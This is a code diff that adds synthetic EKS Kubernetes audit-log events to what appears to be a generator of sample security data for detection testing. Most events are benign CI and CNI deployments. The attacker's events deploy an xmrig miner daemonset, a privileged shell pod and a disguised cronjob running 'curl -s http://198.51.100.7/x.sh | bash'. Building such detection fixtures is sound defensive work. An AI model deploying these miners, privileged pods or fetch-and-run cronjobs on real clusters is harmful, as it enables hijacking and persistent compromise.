@@ -331,6 +331,74 @@ def amplify_job(trail, when, actor, app_id, branch, job_id):
                                       "jobArn": _arn("amplify", "us-east-1", f"apps/{app_id}/branches/{branch}/jobs/{job_id:010d}")}})
 
 
+# ---- EKS control-plane audit log (Kubernetes audit.k8s.io/v1 Events, through CloudWatch Logs) -------------------
+KUBECTL = "kubectl/v1.30.2 (linux/amd64) kubernetes/39683505b630ff2121012f3c5b16215a1449d5ed"
+RESOURCES = {"deployments": ("apps", "Deployment"), "daemonsets": ("apps", "DaemonSet"), "pods": ("", "Pod"),
+             "cronjobs": ("batch", "CronJob")}
+
+
+def _pod_spec(image, args=None, privileged=False):
+    container = {"name": image.rsplit("/", 1)[-1].split(":")[0], "image": image, "resources": {}}
+    if args:
+        container["args"] = args
+    if privileged:
+        container["securityContext"] = {"privileged": True}
+    return {"containers": [container], "restartPolicy": "Always"}
+
+
+def k8s_create(when, actor, resource, namespace, name, image, args=None, privileged=False):
+    """One ResponseComplete audit Event of a create, at the RequestResponse level EKS logs writes with."""
+    group, kind = RESOURCES[resource]
+    spec = _pod_spec(image, args, privileged)
+    if resource != "pods":
+        spec = {"selector": {"matchLabels": {"app": name}},
+                "template": {"metadata": {"labels": {"app": name}}, "spec": spec}}
+    body = {"kind": kind, "apiVersion": f"{group}/v1" if group else "v1",
+            "metadata": {"name": name, "namespace": namespace}, "spec": spec}
+    identity = ACTORS[actor]["identity"]
+    arn = identity["arn"] if identity["type"] == "IAMUser" else identity["sessionContext"]["sessionIssuer"]["arn"]
+    seed = hashlib.sha256(f"{when.isoformat()}/{name}".encode()).digest()
+    prefix = f"/apis/{group}/v1" if group else "/api/v1"
+    stamp = when.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
+    return {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse",
+            "auditID": str(uuid.UUID(bytes=seed[:16])), "stage": "ResponseComplete",
+            "requestURI": f"{prefix}/namespaces/{namespace}/{resource}?fieldManager=kubectl-client-side-apply",
+            "verb": "create",
+            "user": {"username": "kubernetes-admin" if actor == "attacker" else f"{actor}-deployer",
+                     "uid": f"aws-iam-authenticator:{ACCOUNT}:{identity['principalId'].split(':')[0]}",
+                     "groups": ["system:masters", "system:authenticated"],
+                     "extra": {"accessKeyId": [identity["accessKeyId"]], "arn": [identity["arn"]],
+                               "canonicalArn": [arn], "principalId": [identity["principalId"].split(":")[0]],
+                               "sessionName": [identity["arn"].rsplit("/", 1)[-1] if actor != "attacker" else ""]}},
+            "sourceIPs": [ACTORS[actor]["ip"]], "userAgent": KUBECTL,
+            "objectRef": {"resource": resource, "namespace": namespace, "name": name, "apiGroup": group,
+                          "apiVersion": "v1"},
+            "responseStatus": {"metadata": {}, "code": 201},
+            "requestObject": body,
+            "requestReceivedTimestamp": stamp, "stageTimestamp": stamp,
+            "annotations": {"authorization.k8s.io/decision": "allow",
+                            "authorization.k8s.io/reason": "EKS Access Policy: allowed by ClusterRoleBinding"}}
+
+
+def eks_audit():
+    events = []
+    for day in range(HISTORY_DAYS):  # CI rolls out the web API with the account's private image
+        when = HISTORY_START + timedelta(days=day, hours=10, minutes=20)
+        events.append(k8s_create(when, "ci", "deployments", "web", f"web-api-{day:02d}", f"{ECR}/web-api:1.{42 + day}.1"))
+    # the platform team's CNI daemon set runs privileged from AWS's own ECR: no alert
+    events.append(k8s_create(HISTORY_START + timedelta(hours=9, minutes=15), "terraform", "daemonsets", "kube-system",
+                             "aws-node", "602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.18.3",
+                             privileged=True))
+    t = ATTACK_START + timedelta(minutes=42)
+    events.append(k8s_create(t, "attacker", "daemonsets", "kube-system", "kube-metrics", "docker.io/xmrig/xmrig:6.21.0",
+                             args=MINER_ARGS))
+    events.append(k8s_create(t + timedelta(minutes=1), "attacker", "pods", "default", "debug-shell", "alpine:3.20",
+                             args=["sh", "-c", "sleep infinity"], privileged=True))
+    events.append(k8s_create(t + timedelta(minutes=2), "attacker", "cronjobs", "default", "log-rotate",
+                             "ubuntu:24.04", args=["bash", "-c", "curl -s http://198.51.100.7/x.sh | bash"]))
+    return sorted(events, key=lambda e: e["requestReceivedTimestamp"])
+
+
 # ---- the story ---------------------------------------------------------------------------------------------------
 def benign_history(trail):
     day0 = HISTORY_START + timedelta(hours=9)
@@ -433,6 +501,9 @@ def generate(out: Path) -> int:
         for old in sorted(target.rglob("*.json.gz")):
             old.unlink()
     samples_io.write_cloudtrail_export(target, trail.records)
+    # the EKS cluster's control-plane log group /aws/eks/prod-eks/cluster (kube-apiserver-audit streams)
+    samples_io.write_json_lines(out / "eks-audit" / "aws" / "eks" / "prod-eks" / "cluster" / "kube-apiserver-audit.jsonl",
+                                eks_audit())
     return len(trail.records)
 
 
